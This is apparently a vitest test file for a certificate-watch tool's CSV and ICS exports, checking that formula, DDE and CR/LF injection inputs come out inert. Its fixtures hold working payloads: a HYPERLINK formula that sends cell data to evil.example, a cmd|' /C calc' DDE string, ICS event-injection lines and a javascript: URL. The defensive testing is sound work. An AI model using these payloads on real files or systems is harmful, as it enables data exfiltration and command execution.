// Exports read back by independent parsers: the CSV by csv-parse (as a spreadsheet would load it) and the ICS by
// ical.js (as a calendar would). Hostile labels and URLs come out as inert data, and import undoes the CSV guard.
import { describe, expect, it } from 'vitest';
import { parse as parseCsv } from 'csv-parse/sync';
import ICAL from 'ical.js';
import { exportCsv, exportJson, importText } from '../../main/core/watch/exchange';
import { expiriesToIcs } from '../../main/core/watch/ics';
import { addEntries, type EntryInput } from '../../main/core/watch/watchlist';
import type { WatchEntry } from '../../main/shared/model';
import type { EntrySummary } from '../../main/shared/contract';

const now = Date.parse('2026-11-24T12:00:00Z');
let ids = 0;
const deps = { now: () => now, newId: () => `id-${++ids}` };

const HOSTILE: EntryInput[] = [
  { target: 'a.example.com', label: '=HYPERLINK("https://evil.example/?x="&A1,"Click")', owner: '@SUM(1+1)' },
  { target: 'b.example.com', label: "+1+cmd|' /C calc'!A0", tags: ['-2+3', 'prod'] },
  { target: 'c.example.com', label: "'=already quoted", notes: '=1+1\nsecond line, with "quotes"' },
  { target: 'd.example.com', label: 'plain, with comma', runbookUrl: 'https://wiki.example.com/a,b;c?x=1' },
  { target: 'e.example.com', label: '-', owner: '\t@tab' },
];

function entries(): WatchEntry[] {
  const added = addEntries([], HOSTILE, deps);
  for (const r of added.results) if (!r.ok) throw new Error(r.error);
  return added.entries;
}

const FORMULA_START = /^[=+\-@\t\r]/;

describe('CSV export read by a spreadsheet parser', () => {
  it('shows exactly the entries, no cell starts a formula, and import restores every value', () => {
    const list = entries();
    const csv = exportCsv(list);
    const rows = parseCsv(csv, { relax_column_count: false }) as string[][];
    expect(rows).toHaveLength(list.length + 1);
    expect(rows[0]![0]).toBe('target');
    for (const row of rows.slice(1)) for (const cell of row) expect(cell).not.toMatch(FORMULA_START);
    expect(rows.map((r) => r[0])).toEqual(['target', ...list.map((e) => e.target)]);
    expect(rows[1]![1]).toBe(`'${HOSTILE[0]!.label}`);
    expect(rows[3]![1]).toBe("''=already quoted");

    const back = importText(csv, 'csv');
    expect(back.errors).toEqual([]);
    const again = addEntries([], back.inputs, deps).entries;
    const strip = (e: WatchEntry) => ({ ...e, id: '', createdAt: '', updatedAt: '' });
    expect(again.map(strip)).toEqual(list.map(strip));
    // The JSON export holds the values as they are: JSON is data already.
    expect(JSON.parse(exportJson(list)).entries[0].label).toBe(HOSTILE[0]!.label);
  });
});

function summary(over: Partial<EntrySummary>): EntrySummary {
  return {
    id: 'e1',
    target: 'shop.example.com:443',
    host: 'shop.example.com',
    port: 443,
    tags: [],
    enabled: true,
    status: 'ok',
    daysLeft: 40,
    notAfter: '2027-01-03T08:55:00.000Z',
    issuer: 'R11',
    lastCheckedAt: null,
    nextDueAt: null,
    checking: false,
    headline: null,
    problemCodes: [],
    ...over,
  };
}

function events(ics: string) {
  const calendar = new ICAL.Component(ICAL.parse(ics));
  return calendar.getAllSubcomponents('vevent').map((e) => ({
    uid: String(e.getFirstPropertyValue('uid')),
    summary: String(e.getFirstPropertyValue('summary')),
    description: String(e.getFirstPropertyValue('description')),
    url: e.getFirstPropertyValue('url') as string | null,
  }));
}

describe('ICS export read by a calendar library', () => {
  it('one event per entry; a CR/LF URL or label from an old store adds no event and no property', () => {
    const injected =
      'https://wiki.example.com/x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:Free money\r\nUID:evil';
    const rows = [
      summary({ id: 'a', label: 'Shop; EU, "main"\\ \r\nDESCRIPTION:evil', runbookUrl: injected }),
      summary({ id: 'b', host: 'api.example.com', runbookUrl: 'https://wiki.example.com/a,b;c\\d?q=1,2' }),
      summary({
        id: 'c',
        host: 'x.example.com',
        owner: '\u001b]0;title\u0007ops',
        runbookUrl: 'javascript:alert(1)',
      }),
      summary({ id: 'd\r\nBEGIN:VEVENT', host: 'y.example.com', label: 'ü'.repeat(120) }),
    ];
    const ics = expiriesToIcs(rows, now);
    for (const line of ics.split('\r\n')) expect(Buffer.byteLength(line)).toBeLessThanOrEqual(75);
    const found = events(ics);
    expect(found).toHaveLength(4);
    expect(found.map((e) => e.uid.slice(0, 1))).toEqual(['a', 'b', 'c', 'd']);
    expect(found[0]!.summary).toBe(
      'Certificate expires: Shop; EU, "main"\\ \\r\\nDESCRIPTION:evil (shop.example.com:443)',
    );
    expect(found[0]!.url).toBeNull();
    expect(found[0]!.description).not.toContain('Free money');
    expect(found[1]!.url).toBe('https://wiki.example.com/a%2Cb%3Bc/d?q=1%2C2');
    expect(new URL(found[1]!.url!).hostname).toBe('wiki.example.com');
    expect(found[2]!.url).toBeNull();
    expect(found[2]!.description).toContain('Owner: \\e]0;title\\x07ops.');
    expect(found[3]!.uid).toBe('d\\r\\nBEGIN:VEVENT-20270103@certwatch');
    expect(found[3]!.summary).toBe(`Certificate expires: ${'ü'.repeat(120)} (y.example.com:443)`);
    expect(ics).not.toMatch(/SUMMARY:Free money/);
  });

  it('a runbook URL is stored as the normalised href, http(s) only, never with control characters', () => {
    const add = (runbookUrl: string) =>
      addEntries([], [{ target: 'z.example.com', runbookUrl }], deps).results[0]!;
    const ok = add('HTTPS://Wiki.Example.com/renew guide');
    expect(ok.ok && ok.entry.runbookUrl).toBe('https://wiki.example.com/renew%20guide');
    for (const bad of [
      'https://wiki.example.com/x\r\nBEGIN:VEVENT',
      'https://a.example\t/b',
      'javascript:alert(1)',
      'ftp://files.example.com/',
    ])
      expect(add(bad).ok).toBe(false);
  });
});
